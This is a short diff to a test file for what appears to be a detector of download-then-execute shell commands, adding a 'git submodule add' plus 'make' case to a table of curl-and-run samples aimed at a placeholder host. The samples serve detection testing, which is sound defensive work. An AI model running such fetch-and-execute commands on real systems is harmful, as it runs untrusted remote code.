@@ -13,6 +13,7 @@ describe('downloadFindings', () => {
     ['curl -o x.sh https://a.example/x.sh; sh x.sh', 'open.download x.sh'],
     ['curl -O https://a.example/x.sh; bash ./x.sh', 'open.download ./x.sh'],
     ['curl https://a.example/x > y; sh y', 'open.download y'],
+    ['git submodule add https://a.example/x; make -C x', 'open.download make'],
     ['curl https://a.example/x &> y; sh y', 'open.download y'],
     ['curl -o x https://a.example/x; ./x', 'open.download ./x'],
     ['curl -o x https://a.example/x; python3 x', 'open.download x'],
